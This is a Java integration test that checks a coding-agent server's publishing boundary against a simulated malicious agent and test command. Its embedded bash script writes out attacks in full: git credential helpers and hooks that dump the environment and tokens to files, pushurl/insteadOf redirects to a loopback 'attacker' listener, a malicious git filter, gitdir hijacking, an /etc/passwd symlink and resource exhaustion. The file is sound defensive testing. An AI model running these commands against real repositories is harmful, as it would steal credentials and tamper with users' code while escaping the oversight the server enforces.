package dev.autofix.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import dev.autofix.agents.internal.Paths2;
import dev.autofix.testkit.GitHttpRemote;
import dev.autofix.testkit.MutableClock;
import dev.autofix.testkit.OutsideTmp;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The publishing boundary against a malicious agent and test command, on the assembled server, with
 * real git, a smart-HTTP remote that wants the token (GitHub's stand-in) and a listener for the
 * attacker's host: each issue below is one attack from the issue's list, run in {@code sandboxed}
 * and in {@code trusted} mode.
 *
 * <p>After every attack: the token (and every other secret of the server's) never reached the
 * listener, a hook, a credential helper or any file the attack could write; what was pushed is the
 * commit autofix verified; the user's repository is unchanged or the run says "the agent changed
 * your repository"; and the server goes on to fix the next issue.
 */
class PublishingAttackIT {
  private static final String TOKEN = "ghp_e2etoken";

  /**
   * One script, one attack per issue (found by its short id in the prompt); every case ends with
   * the real fix. Values come from {@code attack.env} next to it.
   */
  private static final String AGENT =
      """
      #!/bin/bash
      prompt="$(cat)"
      . "$(dirname "$0")/attack.env"
      hook() { printf '#!/bin/sh\\nenv > %s/hook-%s-$$.env\\n' "$SHARED" "$1"; }
      plant_hooks() {
        mkdir -p "$1"
        for h in pre-push reference-transaction pre-commit post-commit post-checkout fsmonitor; do
          hook "$h" > "$1/$h"; chmod +x "$1/$h"
        done
      }
      landed() { touch "$SHARED/landed-$1"; } # the attack's write took effect
      steal="!f() { cat > $SHARED/stolen-\\$\\$; env >> $SHARED/stolen-\\$\\$; }; f"
      case "$prompt" in
      *SHOP-601*) # the push's destination and credentials, from the repository's config
        git config remote.origin.pushurl "$TRAP/acme/shop.git"
        git config "url.$TRAP/.pushInsteadOf" "$DEST"
        git config "url.$TRAP/.insteadOf" "$DEST"
        git config credential.helper "$steal"
        git config --get remote.origin.pushurl > /dev/null && landed 601 ;;
      *SHOP-602*) # hooks in the common git dir, a hooks path and an fsmonitor in its config
        plant_hooks "$USER_GIT/hooks"
        plant_hooks "$SHARED/hooks"
        git config core.hooksPath "$SHARED/hooks"
        git config core.fsmonitor "$SHARED/hooks/fsmonitor"
        [ -x "$USER_GIT/hooks/pre-push" ] && landed 602 ;;
      *SHOP-603*) # the user's global config: hooks path, fsmonitor, attributes with a filter
        plant_hooks "$SHARED/hooks"
        printf '[core]\\n\\thooksPath = %s/hooks\\n\\tfsmonitor = %s/hooks/fsmonitor\\n' \\
          "$SHARED" "$SHARED" >> "$USER_HOME/.gitconfig"
        printf '[filter "evil"]\\n\\tclean = %s/hooks/pre-push\\n' "$SHARED" \\
          >> "$USER_HOME/.gitconfig"
        echo '* filter=evil' > .gitattributes
        grep -qs hooksPath "$USER_HOME/.gitconfig" && landed 603 ;;
      *SHOP-604*) # the worktree's .git pointed at a git dir of the agent's, with a trap inside
        mkdir -p .autofix
        git init -q --bare .autofix/evil.git
        git -C .autofix/evil.git config remote.origin.pushurl "$TRAP/acme/shop.git"
        git -C .autofix/evil.git config credential.helper "$steal"
        plant_hooks .autofix/evil.git/hooks
        printf 'gitdir: %s/.autofix/evil.git\\n' "$PWD" > .git
        grep -qs evil.git .git && landed 604 ;;
      *SHOP-605*) # the worktree's .git pointed at the user's own .git
        printf 'gitdir: %s\\n' "$USER_GIT" > .git
        grep -qsx "gitdir: $USER_GIT" .git && landed 605 ;;
      *SHOP-606*) # the test command commits something unverified and moves branches to it
        mkdir -p .autofix
        cat > .autofix/test-attack.sh <<'EOF'
      echo never-verified > unverified.txt
      git add unverified.txt
      git -c user.name=x -c user.email=x@x commit -q -m evil
      git branch -f autofix/shop-606 HEAD
      git rev-parse -q --verify refs/heads/autofix/shop-606 > /dev/null && touch "$SHARED/landed-606"
      git rm -q --cached unverified.txt; rm -f unverified.txt
      EOF
        sed -i "s|\\$SHARED|$SHARED|" .autofix/test-attack.sh
        ;;
      *SHOP-607*) # the test command changes the files after the commit
        mkdir -p .autofix
        printf 'echo never-verified > unverified.txt && touch %s/landed-607\\n' "$SHARED" \\
          > .autofix/test-attack.sh ;;
      *SHOP-608*) # the summary as a link to the host's /etc/passwd
        ln -sf /etc/passwd "$AUTOFIX_SUMMARY_FILE"
        [ -L "$AUTOFIX_SUMMARY_FILE" ] && landed 608 ;;
      *SHOP-609*) # a 3 GB sparse summary, and a 64 MiB line on stdout
        truncate -s 3G "$AUTOFIX_SUMMARY_FILE"
        head -c 67108864 /dev/zero | tr '\\0' a; echo
        [ "$(stat -c %s "$AUTOFIX_SUMMARY_FILE")" -gt 1000000000 ] && landed 609 ;;
      *SHOP-610*) # lock the worktree, seal a directory, link out of it, and fail the first time
        git worktree lock --reason "the agent's" "$PWD" && landed 610
        mkdir -p sealed/inner && chmod 000 sealed
        ln -s "$OUTSIDE" escape
        if [ ! -e "$SHARED/610-tried" ]; then touch "$SHARED/610-tried"; exit 3; fi
        chmod 700 sealed; rm -rf sealed escape ;;
      *SHOP-611*) # commit on the user's own main
        git -C "$CHECKOUT" -c user.name=x -c user.email=x@x commit -q --allow-empty -m agent \\
          && landed 611 ;;
      esac
      printf '4\\n' > answer.txt
      case "$prompt" in *SHOP-608*|*SHOP-609*) ;; *)
        printf 'Root cause: 2 + 2 was written as 5.\\n' > "$AUTOFIX_SUMMARY_FILE" ;;
      esac
      """;

  private static final Pattern COMMITTED = Pattern.compile("committed ([0-9a-f]{40})");

  private Path root;
  private Path userHome;
  private final List<String> trapped = new CopyOnWriteArrayList<>();
  private HttpServer trap;

  @BeforeEach
  void setUp() throws IOException {
    // Outside /tmp, which the sandbox hides whole: the attacks must meet the real mounts.
    root = OutsideTmp.newDirectory("pub");
    userHome = Files.createDirectories(root.resolve("home"));
    trap = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    trap.createContext(
        "/",
        exchange -> {
          try (exchange) {
            trapped.add(
                exchange.getRequestMethod()
                    + " "
                    + exchange.getRequestURI()
                    + " "
                    + exchange.getRequestHeaders());
            // asks for credentials, as a git host would
            exchange.getResponseHeaders().add("WWW-Authenticate", "Basic realm=\"GitHub\"");
            exchange.sendResponseHeaders(401, -1);
          }
        });
    trap.start();
  }

  @AfterEach
  void tearDown() throws IOException {
    trap.stop(0);
    Paths2.deleteTree(root);
  }

  @ParameterizedTest
  @ValueSource(strings = {"sandboxed", "trusted"})
  void everyAttackOnThePublishingBoundary_fails_andTheServerGoesOn(String access) throws Exception {
    boolean trusted = access.equals("trusted");
    try (E2eWorld world = new E2eWorld(Files.createDirectories(root.resolve("world")));
        GitHttpRemote github = served(world, TOKEN)) {
      Path outside = Files.createDirectories(root.resolve("outside"));
      Files.writeString(outside.resolve("keep.txt"), "the user's\n");
      Files.setPosixFilePermissions(outside, PosixFilePermissions.fromString("r-x------"));
      writeAgent(world, github.url("acme", "shop"), outside);
      Map<String, String> env = environment(world, access, github.url("acme", "shop"));
      env.put(
          "AUTOFIX_TEST_COMMAND",
          "sh test.sh && if [ -f .autofix/test-attack.sh ]; then sh .autofix/test-attack.sh; fi");
      UserRepository user = new UserRepository(world.checkout, userHome);
      try (Assembly server =
          Assembly.start(Assembly.settings(env), MutableClock.at(Instant.now()))) {
        int port = server.port();
        Map<String, String> expected = new TreeMap<>();
        for (int n = 601; n <= 611; n++) {
          expected.put("SHOP-" + n, "pr_opened");
        }
        if (trusted) {
          expected.put("SHOP-601", "failed");
          expected.put("SHOP-602", "failed");
        }
        // `* filter=evil` covers every file it touches: refused, in both modes, the filter unrun.
        expected.put("SHOP-603", "no_fix");
        expected.put("SHOP-607", "no_fix");
        expected.put("SHOP-610", "failed"); // its first attempt; the retry opens the PR

        for (Map.Entry<String, String> attack : expected.entrySet()) {
          String shortId = attack.getKey();
          String issueId = shortId.substring("SHOP-".length());
          long runId = runId(world.post(port, E2eWorld.issueCreated(issueId, shortId)));
          JsonNode run = awaitEnded(world, port, runId);
          String log = world.getText(port, "/api/runs/" + runId + "/log");
          String what = access + " " + shortId + ": " + run + "\n" + log;

          assertThat(run.get("status").asText()).as(what).isEqualTo(attack.getValue());
          assertNoSecretEscaped(world, what);
          String branch = "autofix/" + shortId.toLowerCase(java.util.Locale.ROOT);
          if (attack.getValue().equals("pr_opened")) {
            // What was pushed is exactly the commit autofix made and the test command ran on.
            Matcher committed = COMMITTED.matcher(log);
            assertThat(committed.find()).as(what).isTrue();
            assertThat(remoteTip(github, branch)).as(what).isEqualTo(committed.group(1));
            assertThat(remoteFiles(github, branch))
                .as(what)
                .containsExactly("answer.txt", "test.sh");
            assertThat(user.mainUnchanged() || shortId.equals("SHOP-611")).as(what).isTrue();
          } else {
            assertThat(remoteBranches(github)).as(what).doesNotContain(branch);
          }
          if (trusted && List.of("SHOP-601", "SHOP-602").contains(shortId)) {
            assertThat(run.get("reason").asText())
                .as(what)
                .startsWith("the agent changed your repository: ");
          }
          switch (shortId) {
            case "SHOP-601" ->
                assertThat(run.get("reason").asText()).as(what).contains(trusted ? "config" : "");
            case "SHOP-602" ->
                assertThat(run.get("reason").asText())
                    .as(what)
                    .contains(trusted ? "hooks/pre-push (added)" : "");
            case "SHOP-603" ->
                assertThat(run.get("reason").asText())
                    .as(what)
                    .contains("goes through the git filter 'evil'");
            case "SHOP-606" -> {
              if (trusted) {
                assertThat(log).as(what).contains("refs/heads/autofix/shop-606 (added)");
              }
            }
            case "SHOP-607" ->
                assertThat(run.get("reason").asText())
                    .as(what)
                    .contains("the test command changed the worktree")
                    .contains("unverified.txt");
            case "SHOP-608" ->
                assertThat(world.github.all().getLast().get("body").asText())
                    .as(what)
                    .doesNotContain("root:x:0:0");
            case "SHOP-609" -> assertThat(log).as(what).contains("cut");
            case "SHOP-610" -> {
              assertThat(Files.getPosixFilePermissions(outside))
                  .as("the cleanup never changes a file outside the worktree")
                  .isEqualTo(PosixFilePermissions.fromString("r-x------"));
              assertThat(outside.resolve("keep.txt")).hasContent("the user's");
              assertThat(run.get("reason").asText()).as(what).contains("exit code 3");
              // The lock does not outlive the run: its retry starts again where it did.
              assertThat(retry(world, port, runId).statusCode()).isEqualTo(202);
              JsonNode again = awaitEnded(world, port, runId);
              String retried = world.getText(port, "/api/runs/" + runId + "/log");
              assertThat(again.get("status").asText()).as(retried).isEqualTo("pr_opened");
              Matcher committed = COMMITTED.matcher(retried);
              String last = null;
              while (committed.find()) {
                last = committed.group(1);
              }
              assertThat(remoteTip(github, branch)).as(retried).isEqualTo(last);
              assertNoSecretEscaped(world, retried);
            }
            case "SHOP-611" -> {
              if (trusted) {
                assertThat(log).as(what).contains("refs/heads/main (changed)");
              }
            }
            default -> {
              // the common checks above
            }
          }
          // The workspace is released right after the outcome is recorded: give it a moment.
          await()
              .atMost(Duration.ofSeconds(10))
              .untilAsserted(
                  () ->
                      assertThat(E2eWorld.git(world.checkout, "worktree", "list").strip().lines())
                          .as("no worktree and no lock outlives its run")
                          .hasSize(1));
          user.restore();
        }

        // Each attack was really made: in trusted mode every write landed, in the sandbox only
        // those to the worktree and the agent's own files did.
        assertThat(landed(world))
            .isEqualTo(
                trusted
                    ? List.of(
                        "601", "602", "603", "604", "605", "606", "607", "608", "609", "610", "611")
                    : List.of("607", "608", "609"));

        // The server and its worker go on: an ordinary issue is fixed as usual.
        long next = runId(world.post(port, E2eWorld.issueCreated("612", "SHOP-612")));
        assertThat(awaitEnded(world, port, next).get("status").asText()).isEqualTo("pr_opened");
        assertThat(world.get(port, "/readyz").get("status").asText()).isEqualTo("ready");
      }
    }
  }

  /**
   * Without a token, git pushes with the user's own credentials (a credential store in their global
   * config): a credential helper the agent adds to the repository, or to a git dir of its own
   * behind the worktree's {@code .git}, never sees the password.
   */
  @ParameterizedTest
  @ValueSource(strings = {"sandboxed", "trusted"})
  void withoutAToken_theUsersOwnCredentials_reachNoHelperOfTheAgents(String access)
      throws Exception {
    String password = "users-own-password-" + UUID.randomUUID();
    try (E2eWorld world = new E2eWorld(Files.createDirectories(root.resolve("world")));
        GitHttpRemote github = served(world, password)) {
      String url = github.url("acme", "shop");
      Files.writeString(
          userHome.resolve(".gitconfig"),
          "[credential]\n\thelper = store --file=" + userHome.resolve(".git-credentials") + "\n");
      Files.writeString(
          userHome.resolve(".git-credentials"),
          URI.create(url).getScheme()
              + "://ada:"
              + password
              + "@"
              + URI.create(url).getAuthority()
              + "\n");
      writeAgent(world, url, root);
      Map<String, String> env = environment(world, access, url);
      env.remove("AUTOFIX_GITHUB_TOKEN");
      UserRepository user = new UserRepository(world.checkout, userHome);
      try (Assembly server =
          Assembly.start(Assembly.settings(env), MutableClock.at(Instant.now()))) {
        int port = server.port();
        for (String shortId : List.of("SHOP-601", "SHOP-604", "SHOP-612")) {
          String issueId = shortId.substring("SHOP-".length());
          long runId = runId(world.post(port, E2eWorld.issueCreated(issueId, shortId)));
          JsonNode run = awaitEnded(world, port, runId);
          String what =
              access
                  + " "
                  + shortId
                  + ": "
                  + run
                  + "\n"
                  + world.getText(port, "/api/runs/" + runId + "/log");

          boolean tampered = access.equals("trusted") && shortId.equals("SHOP-601");
          assertThat(run.get("status").asText())
              .as(what)
              .isEqualTo(tampered ? "failed" : "pr_opened");
          assertThat(github.users()).as("pushed with the user's login").allMatch("ada"::equals);
          assertNoSecretEscaped(world, what);
          assertThat(filesUnder(world.shared, password)).as(what).isEmpty();
          user.restore();
        }
        assertThat(landed(world))
            .isEqualTo(access.equals("trusted") ? List.of("601", "604") : List.of());
      }
    }
  }

  /** The server's environment: the world's, with the user's home and {@code access}. */
  private Map<String, String> environment(E2eWorld world, String access, String pushUrl) {
    Map<String, String> env = new HashMap<>(world.environment(0));
    env.put("HOME", userHome.toString());
    env.put("AUTOFIX_AGENT_ACCESS", access);
    env.put("AUTOFIX_GIT_PUSH_URL", pushUrl);
    env.put("AUTOFIX_SENTRY_CLIENT_SECRET", E2eWorld.SECRET);
    env.put("AUTOFIX_MAX_FIXES_PER_DAY", "100");
    return env;
  }

  /** The bare remote served over smart HTTP, wanting {@code password}. */
  private GitHttpRemote served(E2eWorld world, String password) throws Exception {
    Path served = root.resolve("served");
    E2eWorld.git(
        root,
        "clone",
        "-q",
        "--bare",
        world.remote.toString(),
        served.resolve("acme/shop.git").toString());
    return new GitHttpRemote(served, password);
  }

  private void writeAgent(E2eWorld world, String dest, Path outside) throws IOException {
    Files.writeString(world.agentScript, AGENT);
    Files.writeString(
        world.shared.resolve("attack.env"),
        String.join(
            "\n",
            "TRAP='http://127.0.0.1:" + trap.getAddress().getPort() + "'",
            "DEST='" + dest + "'",
            "SHARED='" + world.shared + "'",
            "USER_GIT='" + world.checkout.resolve(".git") + "'",
            "CHECKOUT='" + world.checkout + "'",
            "USER_HOME='" + userHome + "'",
            "OUTSIDE='" + outside + "'",
            ""));
  }

  /**
   * The token and the server's other secrets reached nothing: not the attacker's listener, and no
   * file a hook, helper or filter of the agent's could have written.
   */
  private void assertNoSecretEscaped(E2eWorld world, String what) throws IOException {
    assertThat(trapped).as("requests to the attacker's host; " + what).isEmpty();
    for (String secret : List.of(TOKEN, "sntrys_e2e", "admin-e2e", E2eWorld.SECRET)) {
      assertThat(filesUnder(world.shared, secret)).as(secret + "; " + what).isEmpty();
      assertThat(filesUnder(userHome, secret)).as(secret + "; " + what).isEmpty();
    }
    try (Stream<Path> files = Files.list(world.shared)) {
      assertThat(files.map(p -> p.getFileName().toString()))
          .as("no hook or helper of the agent's ran; " + what)
          .noneMatch(name -> name.startsWith("hook-") || name.startsWith("stolen-"));
    }
  }

  /** The attacks whose writes took effect, as the script recorded them. */
  private static List<String> landed(E2eWorld world) throws IOException {
    try (Stream<Path> files = Files.list(world.shared)) {
      return files
          .map(p -> p.getFileName().toString())
          .filter(name -> name.startsWith("landed-"))
          .map(name -> name.substring("landed-".length()))
          .sorted()
          .toList();
    }
  }

  private static List<Path> filesUnder(Path dir, String secret) throws IOException {
    List<Path> found = new ArrayList<>();
    byte[] wanted = secret.getBytes(java.nio.charset.StandardCharsets.UTF_8);
    try (Stream<Path> walk = Files.walk(dir)) {
      for (Path file :
          walk.filter(f -> Files.isRegularFile(f, java.nio.file.LinkOption.NOFOLLOW_LINKS))
              .toList()) {
        if (Files.size(file) < (8 << 20) && contains(Files.readAllBytes(file), wanted)) {
          found.add(file);
        }
      }
    }
    return found;
  }

  private static boolean contains(byte[] data, byte[] wanted) {
    outer:
    for (int i = 0; i + wanted.length <= data.length; i++) {
      for (int j = 0; j < wanted.length; j++) {
        if (data[i + j] != wanted[j]) {
          continue outer;
        }
      }
      return true;
    }
    return false;
  }

  private static String remoteTip(GitHttpRemote github, String branch) throws Exception {
    return E2eWorld.git(servedRepository(github), "rev-parse", "refs/heads/" + branch).strip();
  }

  private static List<String> remoteFiles(GitHttpRemote github, String branch) throws Exception {
    return E2eWorld.git(servedRepository(github), "ls-tree", "-r", "--name-only", branch)
        .lines()
        .toList();
  }

  private static List<String> remoteBranches(GitHttpRemote github) throws Exception {
    return E2eWorld.git(
            servedRepository(github), "for-each-ref", "--format=%(refname:short)", "refs/heads/")
        .lines()
        .toList();
  }

  private static Path servedRepository(GitHttpRemote github) {
    return github.root().resolve("acme/shop.git");
  }

  private static HttpResponse<String> retry(E2eWorld world, int port, long runId) throws Exception {
    return world.http.send(
        HttpRequest.newBuilder(
                URI.create("http://127.0.0.1:" + port + "/api/runs/" + runId + "/retry"))
            .header("Authorization", "Bearer admin-e2e")
            .POST(HttpRequest.BodyPublishers.noBody())
            .build(),
        HttpResponse.BodyHandlers.ofString());
  }

  private static JsonNode awaitEnded(E2eWorld world, int port, long runId) {
    return world.awaitEnded(port, runId, Duration.ofSeconds(90));
  }

  private static long runId(HttpResponse<String> response) throws IOException {
    return E2eWorld.runId(response);
  }

  /**
   * The user's repository and home as the test made them: an attack that got through (trusted mode)
   * is undone after its checks, so that the next attack meets a clean repository.
   */
  private static final class UserRepository {
    private final Path checkout;
    private final Path home;
    private final String main;
    private final Map<Path, String> files = new TreeMap<>();
    private final List<String> refs;

    UserRepository(Path checkout, Path home) throws Exception {
      this.checkout = checkout;
      this.home = home;
      this.main = E2eWorld.git(checkout, "rev-parse", "refs/heads/main").strip();
      this.refs = refNames();
      Path git = checkout.resolve(".git");
      for (Path dir : List.of(git.resolve("hooks"), git.resolve("info"), home)) {
        try (Stream<Path> walk = Files.walk(dir)) {
          for (Path file : walk.filter(Files::isRegularFile).toList()) {
            files.put(file, Files.readString(file));
          }
        }
      }
      files.put(git.resolve("config"), Files.readString(git.resolve("config")));
      files.put(git.resolve("HEAD"), Files.readString(git.resolve("HEAD")));
    }

    boolean mainUnchanged() throws Exception {
      return E2eWorld.git(checkout, "rev-parse", "refs/heads/main").strip().equals(main);
    }

    void restore() throws Exception {
      Path git = checkout.resolve(".git");
      for (Path dir : List.of(git.resolve("hooks"), git.resolve("info"), home)) {
        try (Stream<Path> walk = Files.walk(dir)) {
          for (Path file : walk.filter(Files::isRegularFile).toList()) {
            if (!files.containsKey(file)) {
              Files.delete(file);
            }
          }
        }
      }
      for (Map.Entry<Path, String> file : files.entrySet()) {
        Files.writeString(file.getKey(), file.getValue());
      }
      for (String ref : refNames()) {
        if (!refs.contains(ref)) {
          E2eWorld.git(checkout, "update-ref", "-d", ref);
        }
      }
      E2eWorld.git(checkout, "update-ref", "refs/heads/main", main);
    }

    private List<String> refNames() throws Exception {
      return E2eWorld.git(checkout, "for-each-ref", "--format=%(refname)").lines().toList();
    }
  }
}
